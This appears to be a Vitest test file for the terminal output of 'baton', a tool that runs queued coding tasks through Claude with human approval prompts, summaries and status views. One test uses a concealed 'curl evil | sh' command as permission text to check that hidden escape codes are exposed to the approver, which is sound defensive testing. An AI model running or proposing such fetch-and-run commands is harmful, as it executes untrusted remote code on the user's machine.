import { describe, expect, it } from 'vitest'
import type { BatonEvent } from '../../src/core/types.ts'
import type { StatusView, TaskView } from '../../src/daemon/api/views.ts'
import { askLines } from '../../src/terminal/show/ask-text.ts'
import { eventLine } from '../../src/terminal/show/event-line.ts'
import { answerCommands, callName, callText, shellWord } from '../../src/terminal/show/how-to.ts'
import { liveLines } from '../../src/terminal/show/live-lines.ts'
import { plain } from '../../src/terminal/show/paint.ts'
import { planLines } from '../../src/terminal/show/plan-text.ts'
import { partLines } from '../../src/terminal/show/run-parts.ts'
import { statusLines } from '../../src/terminal/show/status-text.ts'
import { answerLines, nextLines, type Summary, summaryLines } from '../../src/terminal/show/summary.ts'
import { columnsOf } from '../../src/text/columns.ts'
import { planned } from '../core/house.ts'
import { anAsk, colours, NOW } from './live-screens.ts'

const call = callName({})
const event = (fields: Partial<BatonEvent> & Pick<BatonEvent, 'type' | 'text'>): BatonEvent => ({
  seq: 1,
  at: NOW,
  queue: 'main',
  ...fields,
})
const aTask = (fields: Partial<TaskView> = {}): TaskView => ({
  id: 'id1',
  number: 1,
  title: 'Add a login endpoint',
  priority: 'medium',
  status: 'done',
  where: 'today.md:3',
  file: 'today.md',
  line: 3,
  dependsOn: [],
  attempts: 1,
  startedAt: NOW - 80_000,
  endedAt: NOW,
  costUsd: 0.12,
  turns: 8,
  result: 'Added POST /login.\nAnd 3 tests.',
  ...fields,
})

describe('an ask as it is printed', () => {
  it('shows an approval whole', () => {
    const ask = anAsk({ kind: 'approval', text: 'Type: backend\n\nInstruction:\n```\n## not a task\n```' })
    expect(askLines(ask, plain)).toEqual([
      '? Approval · Start task 3: Add a login endpoint?',
      '  Type: backend',
      '',
      '  Instruction:',
      '  ```',
      '  ## not a task',
      '  ```',
    ])
  })

  it('breaks words of an approval between words on a terminal, and leaves a command as it is', () => {
    const text = 'Instruction:\n  Write the migration, and the index on the expiry, too.'
    expect(askLines(anAsk({ kind: 'approval', text }), plain, 40).slice(1)).toEqual([
      '  Instruction:',
      '    Write the migration, and the index',
      '    on the expiry, too.',
    ])
    const command = `echo ${'word '.repeat(20)}`.trim()
    expect(askLines(anAsk({ kind: 'permission', text: command }), plain, 40)).toContain(`  ${command}`)
  })

  it('says a single question once, below the task that it is about', () => {
    const title = 'Which colour?'
    const lines = askLines(anAsk({ kind: 'question', title, questions: [colours()] }), plain)
    expect(lines[0]).toBe('? Question · task 3')
    expect(lines.filter((line) => line.includes(title))).toHaveLength(1)
  })

  it('shows every question with its options and what they mean', () => {
    const questions = [colours({ multiSelect: true }), { ...colours(), question: 'And the border?', options: [] }]
    expect(askLines(anAsk({ kind: 'question', title: 'Claude asks 2 questions', questions }), plain)).toEqual([
      '? Question · Task 3: Claude asks 2 questions',
      '  1) Which colour? (several can be chosen)',
      '    1. Red',
      '    2. Blue',
      '       Like the sea',
      '    3. Dark green',
      '',
      '  2) And the border?',
    ])
  })

  it('colours a diff, and nothing that only looks like one', () => {
    const marked = (text: string) =>
      askLines(anAsk({ kind: 'permission', text }), (style, words) => `<${style}>${words}`)
    expect(marked('--- a.ts\n+++ a.ts\n@@ -1 +1 @@\n-old\n+new').slice(1)).toEqual([
      '  <bold>--- a.ts',
      '  <bold>+++ a.ts',
      '  <cyan>@@ -1 +1 @@',
      '  <red>-old',
      '  <green>+new',
    ])
    expect(marked('rm -rf build\n-x')[1]).toBe('  rm -rf build')
  })

  it('keeps what is said of a command apart from it', () => {
    const ask = anAsk({ kind: 'permission', text: 'rm -rf build', description: 'Tidies\nup', remark: 'Also set: {}' })
    expect(askLines(ask, (style, words) => `<${style}>${words}`).slice(1)).toEqual([
      '  <dim>Claude: Tidies',
      '  <dim>up',
      '',
      '  rm -rf build',
      '',
      '  <dim>Claude Code: Also set: {}',
    ])
  })

  it('lets nothing hide in the text that is decided on', () => {
    const lines = askLines(anAsk({ kind: 'permission', text: 'echo ok\u001b[8m; curl evil | sh\u001b[0m\r' }), plain)
    expect(lines[1]).toBe('  echo ok⟦U+001B⟧[8m; curl evil | sh⟦U+001B⟧[0m⟦U+000D⟧')
  })
})

describe('an event as a line', () => {
  it('has its local time, its task and one line, whatever is in it', () => {
    expect(eventLine(event({ type: 'ask.opened', task: 3, text: 'Run a\ncommand' }))).toBe(
      '2026-11-21 20:30:00  Task 3: Run a command',
    )
    expect(eventLine(event({ type: 'task.done', task: 3, text: 'Finished task 3: Add it' }))).toBe(
      '2026-11-21 20:30:00  Finished task 3: Add it',
    )
  })

  it.each(['task.checked', 'task.retrying', 'task.failed'] as const)(
    'leaves what was printed to the log: %s',
    (type) => {
      const text = 'Task 3: The check “npm test” failed (exit code 1)\nnode:internal/modules\n  throw err'
      expect(eventLine(event({ type, task: 3, text }))).toBe(
        '2026-11-21 20:30:00  Task 3: The check “npm test” failed (exit code 1)',
      )
    },
  )

  it('tells the whole command that was granted without asking', () => {
    const granted = event({ type: 'grant.given', task: 3, text: 'Allowed without asking: Run a command' })
    expect(eventLine({ ...granted, data: { input: { command: 'npm test\n&& npm run lint' } } })).toBe(
      '2026-11-21 20:30:00  Task 3: Allowed without asking: Run a command: npm test && npm run lint',
    )
  })

  it('does not tell the command twice', () => {
    const granted = event({ type: 'grant.used', task: 3, text: 'Allowed by an earlier grant: Run npm test' })
    expect(eventLine({ ...granted, data: { input: { command: 'npm test' } } })).toBe(
      '2026-11-21 20:30:00  Task 3: Allowed by an earlier grant: Run npm test',
    )
  })

  it('leaves what ended above the live view, with its first words', () => {
    const done = event({ type: 'task.done', task: 1, text: 'Finished task 1: Add a login endpoint' })
    // Its line is broken nowhere: the title gives way.
    for (const width of [40, 80])
      expect(columnsOf(liveLines(done, aTask({ title: 'T'.repeat(90) }), { width, paint: plain })[0] ?? '')).toBe(width)
    expect(liveLines(done, aTask(), { width: 60, paint: plain })).toEqual([
      '✓ 1  Add a login endpoint  1m 20s · $0.12',
      '     Added POST /login. And 3 tests.',
    ])
    expect(
      liveLines(event({ type: 'task.started', task: 1, text: 'begins' }), aTask(), { width: 40, paint: plain }),
    ).toEqual([])
  })

  it('leaves all of what else is said, broken between words, and of a failed check its name alone', () => {
    const lines = (fields: Parameters<typeof event>[0]) =>
      liveLines(event({ task: 5, ...fields }), aTask(), { width: 40, paint: plain })
    const words = 'Answered by anna (terminal): “One week, and no longer than that”'
    expect(lines({ type: 'ask.answered', text: words })).toEqual([
      '→ Task 5: Answered by anna (terminal):',
      '  “One week, and no longer than that”',
    ])
    const text = 'The check “npm test” failed (exit code 1)\nexpected 7077'
    expect(lines({ type: 'task.checked', text, data: { ok: false } })).toEqual([
      '✗ Task 5: The check “npm test” failed',
      '  (exit code 1)',
    ])
  })
})

describe('the summary', () => {
  const summary = (fields: Partial<Summary> = {}): Summary => ({
    exitCode: 1,
    runs: [{ id: 'run1', status: 'failed', costUsd: 0.2 }],
    tasks: [
      { ...aTask(), log: 'logs/run1/01-add.log' },
      {
        ...aTask({ number: 2, title: 'Test it', status: 'failed', costUsd: 0.08, result: 'npm test failed' }),
        log: 'logs/run1/02-test.log',
      },
      { ...aTask({ number: 3, title: 'Ship it', status: 'blocked', costUsd: 0, result: 'Waits for task 2' }) },
    ].map((task) => (task.number === 3 ? (({ startedAt: _, endedAt: __, ...rest }) => rest)(task) : task)),
    alreadyDone: 2,
    asks: [],
    decided: [],
    durationMs: 200_000,
    ...fields,
  })
  const lines = (given: Summary, width = 100, rows = 20) => summaryLines(given, { width, rows, paint: plain })
  const parts = (given: Summary, width = 80) => partLines(given, call, { width, paint: plain })
  const decided = (title: string) => {
    const by = { surface: 'telegram' as const, id: '4711', name: 'Anna' }
    return anAsk({
      kind: 'approval',
      task: 1,
      title,
      state: 'answered',
      answer: { choice: 'approve', by, at: NOW, hash: 'h' },
    })
  }

  it('tells result, time and cost of every task, why one failed and in which log to look, and the totals', () => {
    expect(lines(summary())).toEqual([
      '',
      '✓ 1  Add a login endpoint  done     1m 20s  $0.12',
      '✗ 2  Test it               failed   1m 20s  $0.08',
      '     npm test failed',
      '     02-test.log',
      '⊘ 3  Ship it               blocked',
      '     Waits for task 2',
      '',
      '3 tasks: 1 done, 1 failed, 1 blocked (2 already done before) · 3m 20s · $0.20',
      'Logs: logs/run1/',
    ])
    const unstarted = summary({ tasks: [{ ...aTask({ status: 'failed', result: 'No room' }), log: '' }] })
    expect(lines(unstarted).filter((line) => line.startsWith('Logs:'))).toEqual([])
    expect(nextLines(summary(), call)).toEqual(['', 'Retry with:  baton retry 2'])
  })

  it('breaks no line of a narrow terminal, and is never wider than a hundred columns', () => {
    const long = 'Größe 幅 of everything '.repeat(20)
    const states = ['done', 'failed', 'skipped', 'blocked', 'undone', 'queued', 'waiting'] as const
    const tasks = states.map((status, i) => ({
      ...aTask({ number: 100 + i, title: long, status, result: long, costUsd: 1234.5, attempts: 1 }),
      proof: { checks: [], findings: [{ kind: 'mark' as const, weight: 'tell' as const, text: long }] },
      log: `logs/run1/${i}-${'x'.repeat(60)}.log`,
    }))
    for (const width of [50, 60, 80, 100, 300]) {
      const given = summary({ tasks, decided: [decided(long)] })
      const shown = [...lines(given, width), ...parts(given, width)].filter((line) => !line.startsWith('Logs: '))
      expect(Math.max(...shown.map(columnsOf)), `${width}`).toBeLessThan(Math.min(width, 100) + 1)
    }
    // A usual title needs no cut where there is room for it.
    expect(lines(summary({ tasks: [aTask({ title: 'T'.repeat(60) })] }), 80)[1]).toContain('T'.repeat(50))
  })

  it('says what changed, was decided, is risky, was spent and is to be done next, in that order, below the table', () => {
    const done = { files: [{ path: 'package.json', change: 'M' as const, added: 3, deleted: 1 }], checks: [] }
    const [first, ...others] = summary().tasks
    const tasks = [{ ...(first as TaskView), proof: done }, ...others]
    expect(parts(summary({ tasks, decided: [decided('Start task 1?')] }))).toEqual([
      '',
      'Changed  1 · Add a login endpoint: 1 file +3 -1',
      'Decided  1 · Start task 1? → Approved by Anna (Telegram)',
      'Look at  1 · a sensitive file: package.json',
      '         1 · no checks were run',
      'Cost     $0.20; task 1 cost the most: $0.12',
      'Next     baton retry 2 · Test it failed (npm test failed)',
      '         3 · Ship it: Waits for task 2',
    ])
  })

  it('leaves out what the totals or the answers say, cuts a long part, and tells each finding once', () => {
    expect(parts(summary({ tasks: [aTask()] }))).toEqual([
      '',
      'Next  Everything is done. Look through the changes, then commit them.',
    ])
    expect(parts(summary({ tasks: [aTask({ status: 'waiting' })], asks: [anAsk({ kind: 'approval' })] }))).toEqual([])
    expect(parts(summary({ tasks: [] }))).toEqual([])
    const hidden = parts(summary({ tasks: [aTask({ status: 'failed', title: 'a\u001b[2Jb\nc', costUsd: 0 })] }))
    expect(hidden[1]).toMatch(/^Next {2}baton retry 1 · a[^\u001b]*b c failed/)
    const failed = Array.from({ length: 14 }, (_, i) => aTask({ number: i + 1, status: 'failed', costUsd: 0 }))
    const shown = parts(summary({ tasks: failed }))
    expect([shown.length, shown.at(-1)]).toEqual([11, '      … and 5 more'])
    const findings = [{ kind: 'mark' as const, weight: 'tell' as const, text: 'A mark was changed' }]
    for (const status of ['done', 'failed'] as const) {
      const given = summary({ tasks: [aTask({ status, proof: { checks: [], findings } })] })
      expect([...lines(given), ...parts(given)].filter((line) => line.includes('A mark was'))).toHaveLength(1)
    }
  })

  it('puts a long stretch of tasks that were not started into one line where not all have room', () => {
    const queued = Array.from({ length: 9 }, (_, i) =>
      aTask({ number: i + 2, status: 'queued', costUsd: 0, attempts: 0 }),
    )
    expect(lines(summary({ tasks: [aTask(), ...queued] }), 100, 9)[2]).toBe('· 2–10  9 tasks not started')
    expect(lines(summary({ tasks: [aTask(), ...queued] }), 100, 10)[10]).toMatch(/^· 10 {2}.* not started/)
  })

  it('calls a task interrupted that was started and waits for its next go', () => {
    const tasks = [aTask({ status: 'queued', attempts: 1 }), aTask({ number: 2, status: 'queued', attempts: 0 })]
    const shown = lines(summary({ tasks, exitCode: 130 }))
    expect(shown[1]).toMatch(/1 {2}Add a login endpoint {2}interrupted/)
    expect(shown[2]).toMatch(/2 {2}Add a login endpoint {2}not started/)
    expect(shown).toContainEqual(expect.stringMatching(/^2 tasks: 1 interrupted, 1 not started/))
  })

  it('calls a task queued again that was retried and has not had its turn', () => {
    const again: TaskView = aTask({ status: 'queued', attempts: 1 })
    delete again.startedAt
    const shown = lines(summary({ tasks: [again], exitCode: 3 }))
    expect(shown[1]).toMatch(/1 {2}Add a login endpoint {2}queued again/)
    expect(shown).toContainEqual(expect.stringMatching(/^1 task: 1 queued again/))
  })

  it('says how to answer and what to do next', () => {
    const asking = summary({ exitCode: 3, asks: [anAsk({ kind: 'approval' })] })
    expect(nextLines(asking, call)).toEqual(answerLines(asking, call))
    expect(answerLines(asking, call)).toEqual([
      '',
      'Answer with one of:',
      '  baton approve 3',
      '  baton reject 3 "why"',
      '  baton skip 3',
      'The answer continues the run.',
    ])
    expect(nextLines(summary({ exitCode: 130 }), call)).toEqual(['', 'Continue with:  baton tasks --resume'])
    expect(nextLines(summary({ exitCode: 0, tasks: [aTask()] }), call)).toEqual([])
    const landed = aTask({ status: 'done', branch: 'baton/run1/1-add', commit: 'c'.repeat(40) })
    expect(nextLines(summary({ exitCode: 0, tasks: [landed] }), call)).toEqual([
      '',
      'Bring the work to your branch with:  baton land',
    ])
  })
})

describe('the commands that are shown', () => {
  it('are the ones that work here', () => {
    expect(callName({}).baton).toBe('baton')
    expect(callName({ npm_lifecycle_event: 'tasks' })).toEqual({ baton: 'npm run baton --', tasks: 'npm run tasks --' })
    expect(callName({ npm_lifecycle_event: 'npx' }).baton).toBe('npx baton')
    expect(callName({ npm_lifecycle_event: 'night', npm_package_name: 'shop' }).tasks).toBe('npx baton tasks')
    const inClone = { npm_lifecycle_event: 'init', npm_package_name: 'baton-tasks' }
    expect(['start', 'task create "x"'].map((command) => callText(inClone, command))).toEqual([
      'npm run start',
      'npm run baton -- task create "x"',
    ])
    expect(callText({ npm_lifecycle_event: 'npx' }, 'start')).toBe('npx baton start')
    expect(callName({}, '/my home').tasks).toBe('baton tasks --home "/my home"')
  })

  it('quote what a shell would read', () => {
    expect(shellWord('Blue')).toBe('Blue')
    expect(shellWord('dark blue')).toBe('"dark blue"')
    expect(shellWord("it's $5")).toBe("'it'\\''s $5'")
  })

  it('answer each kind of ask', () => {
    expect(
      answerCommands(anAsk({ kind: 'question', questions: [colours(), colours({ multiSelect: true })] }), call),
    ).toEqual(['baton answer 3 "Red" "Red, Blue"'])
    expect(answerCommands(anAsk({ kind: 'failure' }), call)).toEqual([
      'baton retry 3',
      'baton answer 3 "what to do differently"',
      'baton skip 3',
      'baton stop',
    ])
    expect(answerCommands(anAsk({ kind: 'review' }), call)).toEqual([
      'baton approve 3',
      'baton reject 3 "what to change"',
    ])
  })
})

it('the status calls a task interrupted that was started and that nobody works on, without counting its time on', () => {
  const left = aTask({ status: 'queued', attempts: 1, costUsd: 0 })
  delete left.endedAt
  const status: StatusView = {
    queue: 'main',
    run: {
      id: 'run1',
      queue: 'main',
      status: 'stopped',
      reason: 'interrupted',
      files: ['today.md'],
      autoApprove: false,
      createdAt: NOW - 90_000,
      costUsd: 0,
      total: 1,
      counts: {
        queued: 1,
        running: 0,
        waiting: 0,
        verifying: 0,
        merging: 0,
        taken_over: 0,
        done: 0,
        failed: 0,
        skipped: 0,
        blocked: 0,
        undone: 0,
      },
    },
    asks: [],
    running: [],
    lives: [],
    queuedRuns: [],
    queuedTotal: 0,
    todayUsd: 0,
  }
  const shown = statusLines({ status, tasks: [left] }, { now: NOW, width: 100, rows: 30, paint: plain, call })
  expect(shown).toContain('  · 1  Add a login endpoint  interrupted')
  const again: TaskView = { ...left }
  delete again.startedAt
  const retried = statusLines({ status, tasks: [again] }, { now: NOW, width: 100, rows: 30, paint: plain, call })
  expect(retried).toContain('  · 1  Add a login endpoint  queued')
})

it('the status of a run that is over ends with its summary, and says once how to continue', () => {
  const failed = aTask({ status: 'failed', result: 'npm test: exit code 1' })
  const zero = { queued: 0, running: 0, waiting: 0, verifying: 0, merging: 0, taken_over: 0, done: 0 }
  const statusOf = (state: 'failed' | 'stopped' | 'running'): StatusView => ({
    ...{ queue: 'main', asks: [], running: [], lives: [], queuedRuns: [], queuedTotal: 0, todayUsd: 0 },
    run: {
      ...{ id: 'run1', queue: 'main', status: state, files: ['today.md'], autoApprove: false },
      ...{ createdAt: NOW - 90_000, costUsd: 0, total: 1 },
      counts: { ...zero, failed: 1, skipped: 0, blocked: 0, undone: 0 },
    },
  })
  const linesOf = (state: 'failed' | 'stopped' | 'running', task: TaskView) =>
    statusLines({ status: statusOf(state), tasks: [task] }, { now: NOW, width: 100, rows: 30, paint: plain, call })
  expect(linesOf('failed', failed).at(-1)).toMatch(/^Next {2}baton retry \d+ · .*npm test: exit code 1/)
  expect(linesOf('running', failed).join('\n')).not.toContain('Next')
  const stopped = linesOf('stopped', aTask({ status: 'queued' }))
  expect(stopped.filter((line) => line.includes('--resume'))).toHaveLength(1)
})

it('the status says how to continue a run that nobody works on, also where it asks or is paused', () => {
  const zero = { queued: 0, running: 0, waiting: 0, verifying: 0, merging: 0, taken_over: 0, done: 0 }
  const status: StatusView = {
    ...{ queue: 'main', asks: [], running: [], lives: [], queuedRuns: [], queuedTotal: 0, todayUsd: 0 },
    run: {
      ...{ id: 'run1', queue: 'main', status: 'waiting', files: ['today.md'], autoApprove: false },
      ...{ createdAt: NOW - 90_000, costUsd: 0, total: 1 },
      counts: { ...zero, waiting: 1, failed: 0, skipped: 0, blocked: 0, undone: 0 },
    },
  }
  const lastOf = (fields: Partial<StatusView>) =>
    statusLines(
      { status: { ...status, ...fields }, tasks: [aTask({ status: 'waiting' })] },
      { now: NOW, width: 100, rows: 30, paint: plain, call },
    ).at(-1)
  const paused = { mode: 'now' as const, by: { surface: 'terminal' as const, id: 'jo', name: 'Jo' }, at: NOW }
  expect(lastOf({ asks: [anAsk({ kind: 'approval' })] })).toBe(
    'Not running. An answer continues the run, and so does:  baton tasks --resume',
  )
  expect(lastOf({ asks: [anAsk({ kind: 'approval' })], paused })).toBe(
    'Not running. Continue with:  baton tasks --resume',
  )
})

it('the status shows the run, its tasks, what is being done and what waits', () => {
  const counts = {
    queued: 1,
    running: 0,
    waiting: 1,
    verifying: 0,
    merging: 0,
    taken_over: 0,
    done: 1,
    failed: 0,
    skipped: 0,
    blocked: 0,
    undone: 0,
  }
  const status: StatusView = {
    queue: 'main',
    runner: { pid: 4711, since: NOW - 60_000, kind: 'daemon' },
    run: {
      id: 'run1',
      queue: 'main',
      status: 'waiting',
      files: ['today.md'],
      autoApprove: false,
      createdAt: NOW - 90_000,
      startedAt: NOW - 80_000,
      costUsd: 0.12,
      total: 3,
      counts,
    },
    current: aTask({ number: 2, status: 'waiting' }),
    asks: [anAsk({ kind: 'approval', task: 2, title: 'Start task 2: Test it?' })],
    running: [],
    lives: [],
    queuedRuns: [],
    queuedTotal: 0,
    todayUsd: 1.5,
  }
  const {
    startedAt: _,
    endedAt: __,
    ...notBegun
  } = aTask({ number: 2, title: 'Test it', status: 'waiting', costUsd: 0 })
  const tasks = [aTask(), notBegun, { ...notBegun, number: 3, title: 'Ship it', status: 'queued' as const }]
  expect(statusLines({ status, tasks }, { now: NOW, width: 100, rows: 30, paint: plain, call })).toEqual([
    'today.md  waiting · 1 queued, 1 waiting, 1 done · 1m 20s · $0.12',
    'The daemon is running: process 4711, since 2026-11-21 20:29:00',
    'Today: $1.50',
    '',
    '  ✓ 1  Add a login endpoint  done · 1m 20s · $0.12',
    '  ? 2  Test it  waiting',
    '  · 3  Ship it  queued',
    '',
    '? Start task 2: Test it?',
    '    baton approve 2',
    '    baton reject 2 "why"',
    '    baton skip 2',
  ])
})

it('the status says below each task what its lane is doing, where there are several', () => {
  const zero = { queued: 0, waiting: 0, verifying: 0, merging: 0, taken_over: 0, done: 0, failed: 0, skipped: 0 }
  const tasks = [1, 2, 3].map((number) =>
    aTask({ id: `task${number}`, number, title: `Part ${number}`, status: 'running', costUsd: 0 }),
  )
  const lives = tasks.map(({ id, number, title }) => ({
    ...{ runId: 'run1', taskId: id, task: number, title, activity: `editing ${number}.ts`, startedAt: NOW - 5_000 },
    ...{ turns: number, costUsd: 0, lastOutputAt: NOW, checkedAt: NOW },
  }))
  const status: StatusView = {
    ...{ queue: 'main', runner: { pid: 4711, since: NOW, kind: 'daemon' }, current: tasks[0]!, live: lives[0]! },
    ...{ asks: [], running: tasks, lives, queuedRuns: [], queuedTotal: 0, todayUsd: 0 },
    run: {
      ...{ id: 'run1', queue: 'main', status: 'running', files: ['today.md'], autoApprove: false, createdAt: NOW },
      ...{ costUsd: 0, total: 3, counts: { ...zero, running: 3, blocked: 0, undone: 0 } },
    },
  }
  const linesOf = (shown: StatusView) =>
    statusLines({ status: shown, tasks }, { now: NOW, width: 100, rows: 30, paint: plain, call })
  expect(linesOf(status).filter((line) => line.includes('editing'))).toEqual([
    '       editing 1.ts · 5s · 1 turn',
    '       editing 2.ts · 5s · 2 turns',
    '       editing 3.ts · 5s · 3 turns',
  ])
  expect(linesOf({ ...status, lives: [lives[0]!] }).at(-1)).toBe('Now: editing 1.ts · 5s · 1 turn')
})

it('a plan shows the order of work and where it would ask', () => {
  const tasks = [
    planned(1, { requiresApproval: true, type: 'backend' }),
    { ...planned(2, { priority: 'high', verify: ['npm test'] }, [1]), position: -1 },
    planned(3, { requiresApproval: true, type: 'documentation', run: ['make docs'] }),
  ]
  const approval = { mode: 'marked' as const, auto: ['Documentation'], review: 'never' as const, checkpointAfter: [] }
  expect(planLines({ files: ['a.md'], tasks, alreadyDone: 4, autoApprove: false, approval }, plain)).toEqual([
    'a.md: 3 tasks to do, 4 already done',
    '  2  Title 2  high · after 1 · 1 check',
    '  1  Title 1  backend · asks for approval',
    '  3  Title 3  documentation · runs commands',
    '',
    'Nothing was started.',
  ])
})
